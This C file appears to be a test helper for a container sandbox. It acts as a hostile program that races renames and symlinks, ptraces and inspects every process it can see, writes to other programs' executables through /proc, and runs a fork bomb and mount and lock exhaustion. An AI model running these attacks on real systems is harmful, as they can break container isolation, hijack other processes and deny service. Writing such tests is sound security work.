/* What a hostile program in a container does, one attack per run. Each prints
 * "ready" first, then what it got hold of, and goes on until it is killed.
 *
 *   attacker swap A B        exchanges two names in one directory
 *   attacker replace A B     puts a new file and a link to B at A, in turns
 *   attacker trace           ptraces every process that it sees
 *   attacker hold            the same, and never lets go
 *   attacker overwrite       writes to the programs of all that it sees
 *   attacker bomb            forks
 *   attacker mounts N        bind-mounts a directory of /tmp N times
 *   attacker lock DIR        locks a directory
 *   attacker connect PATH    connects to a launcher and waits for its hello
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static void ready(void) { printf("ready\n"); }

/* Each line once: nobody reads before the end, and a pipe is soon full. */
static void report(const char* what, const char* detail) {
  static char* lines[256];
  char line[300];
  snprintf(line, sizeof(line), "%s%s%s", what, *detail ? " " : "", detail);
  for (int i = 0; i < 256; ++i) {
    if (lines[i] == NULL) {
      lines[i] = strdup(line);
      printf("%s\n", line);
      return;
    }
    if (strcmp(lines[i], line) == 0) return;
  }
}

static int swap(const char* a, const char* b) {
  ready();
  for (;;) {
    if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /*EXCHANGE*/) != 0) {
      printf("renameat2: %s\n", strerror(errno));
      return 1;
    }
  }
}

static int replace(const char* a, const char* b) {
  char link[256];
  char file[256];
  snprintf(link, sizeof(link), "%s.link", a);
  snprintf(file, sizeof(file), "%s.file", a);
  ready();
  for (;;) {
    if (symlink(b, link) != 0 || rename(link, a) != 0) return 1;
    const int fd = open(file, O_CREAT | O_WRONLY, 0644);
    if (fd < 0) return 1;
    close(fd);
    if (rename(file, a) != 0) return 1;
  }
}

static void print_link(const char* what, const char* path) {
  char text[256];
  const ssize_t n = readlink(path, text, sizeof(text) - 1);
  if (n <= 0) return;
  text[n] = 0;
  if (strncmp(text, "pipe:", 5) == 0) text[4] = 0; /* each has a number */
  report(what, text);
}

static void look_into(const char* pid) {
  char path[300];
  snprintf(path, sizeof(path), "/proc/%s/exe", pid);
  print_link("exe", path);
  snprintf(path, sizeof(path), "/proc/%s/cwd", pid);
  print_link("cwd", path);
  snprintf(path, sizeof(path), "/proc/%s/fd", pid);
  DIR* dir = opendir(path);
  if (dir == NULL) return;
  struct dirent* entry;
  while ((entry = readdir(dir)) != NULL) {
    if (!isdigit((unsigned char)entry->d_name[0])) continue;
    snprintf(path, sizeof(path), "/proc/%s/fd/%.16s", pid, entry->d_name);
    print_link("fd", path);
  }
  closedir(dir);
}

static void trace(const char* pid) {
  const pid_t number = atoi(pid);
  if (ptrace(PTRACE_SEIZE, number, 0, 0) != 0) return;
  report("seized", "");
  if (ptrace(PTRACE_INTERRUPT, number, 0, 0) == 0) {
    waitpid(number, NULL, __WALL);
    look_into(pid);
    ptrace(PTRACE_DETACH, number, 0, 0);
  }
  /* What dies while it is traced is its tracer's first. */
  while (waitpid(-1, NULL, WNOHANG | __WALL) > 0) {
  }
}

static void hold(const char* pid) {
  const pid_t number = atoi(pid);
  if (ptrace(PTRACE_SEIZE, number, 0, 0) != 0) return;
  ptrace(PTRACE_INTERRUPT, number, 0, 0);
}

/* The first byte of every program is 0x7f: a success does no harm. */
static void write_to(const char* path) {
  const int fd = open(path, O_WRONLY | O_CLOEXEC);
  if (fd < 0) return;
  if (pwrite(fd, "\x7f", 1, 0) == 1) print_link("wrote", path);
  close(fd);
}

/* An O_PATH descriptor outlives the process: once nobody executes the file,
 * ETXTBSY is gone. */
static void overwrite(const char* pid) {
  static int held[64];
  static unsigned next = 0;
  char path[64];
  snprintf(path, sizeof(path), "/proc/%.16s/exe", pid);
  write_to(path);
  const int fd = open(path, O_PATH | O_CLOEXEC);
  if (fd < 0) return;
  print_link("held", path);
  if (held[next] > 0) close(held[next]);
  held[next] = fd;
  next = (next + 1) % 64;
  for (int i = 0; i < 64; ++i) {
    if (held[i] <= 0) continue;
    snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
    write_to(path);
  }
}

static int for_all_processes(void (*attack)(const char* pid)) {
  const int self = getpid();
  ready();
  for (;;) {
    DIR* dir = opendir("/proc");
    if (dir == NULL) return 1;
    struct dirent* entry;
    while ((entry = readdir(dir)) != NULL) {
      const int pid = atoi(entry->d_name);
      if (pid > 0 && pid != self) attack(entry->d_name);
    }
    closedir(dir);
  }
}

static void bomb(void) {
  ready();
  for (;;) {
    if (fork() < 0) sched_yield();
  }
}

static int mounts(int count) {
  char path[64];
  if (mkdir("/tmp/source", 0755) != 0) return 1;
  for (int i = 0; i < count; ++i) {
    snprintf(path, sizeof(path), "/tmp/%d", i);
    if (mkdir(path, 0755) != 0 ||
        mount("/tmp/source", path, NULL, MS_BIND, NULL) != 0) {
      printf("%s: %s\n", path, strerror(errno));
      return 1;
    }
  }
  ready();
  for (;;) pause();
}

static int lock(const char* path) {
  const int fd = open(path, O_RDONLY | O_DIRECTORY);
  if (fd < 0 || flock(fd, LOCK_EX) != 0) {
    printf("%s: %s\n", path, strerror(errno));
    return 1;
  }
  ready();
  for (;;) pause();
}

static int connect_to(const char* path) {
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  char hello[256];
  snprintf(address.sun_path, sizeof(address.sun_path), "%s", path);
  const int fd = socket(AF_UNIX, SOCK_SEQPACKET, 0);
  if (connect(fd, (struct sockaddr*)&address, sizeof(address)) != 0) {
    printf("connect: %s\n", strerror(errno));
    return 1;
  }
  printf("received %zd bytes\n", recv(fd, hello, sizeof(hello), 0));
  return 0;
}

int main(int argc, char** argv) {
  setvbuf(stdout, NULL, _IOLBF, BUFSIZ);
  if (argc < 2) return 2;
  const char* attack = argv[1];
  if (strcmp(attack, "swap") == 0 && argc == 4) return swap(argv[2], argv[3]);
  if (strcmp(attack, "replace") == 0 && argc == 4) {
    return replace(argv[2], argv[3]);
  }
  if (strcmp(attack, "trace") == 0) return for_all_processes(trace);
  if (strcmp(attack, "hold") == 0) return for_all_processes(hold);
  if (strcmp(attack, "overwrite") == 0) return for_all_processes(overwrite);
  if (strcmp(attack, "bomb") == 0) bomb();
  if (strcmp(attack, "lock") == 0 && argc == 3) return lock(argv[2]);
  if (strcmp(attack, "connect") == 0 && argc == 3) return connect_to(argv[2]);
  if (strcmp(attack, "mounts") == 0 && argc == 3) return mounts(atoi(argv[2]));
  return 2;
}
